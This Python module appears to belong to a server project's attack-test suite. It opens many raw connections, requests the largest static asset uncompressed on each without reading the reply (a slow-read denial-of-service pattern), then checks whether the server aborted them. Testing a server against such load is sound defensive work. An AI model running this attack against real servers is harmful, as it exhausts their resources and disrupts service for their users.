"""The largest file of the page, asked for unpacked on many connections, and never read."""

import asyncio
from contextlib import AsyncExitStack

from bench.attacks.harness import Told, Victim, raw
from tabletown.server.http.pages import STATIC

LONG = 150


def largest() -> str:
    """Its path."""
    packed = max(STATIC.rglob("assets/**/*.gz"), key=lambda path: path.stat().st_size)
    return "/" + packed.relative_to(STATIC).as_posix().removesuffix(".gz")


async def attack(victim: Victim, most: int) -> Told:
    """`most`: connections."""
    told = victim.told
    path = largest()
    async with AsyncExitStack() as stack:
        connections = []
        for _ in range(most):
            connection = await stack.enter_async_context(raw(victim))
            connection.stop_reading()
            await connection.send(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
            connections.append(connection)
            told.sent += 1
        await asyncio.sleep(3)
        for connection in connections:
            # A connection that was aborted says so to whoever writes.
            await connection.send(b"G")
            await asyncio.sleep(0.001)
            if not await connection.send(b"E"):
                told.cut("aborted")
    return told
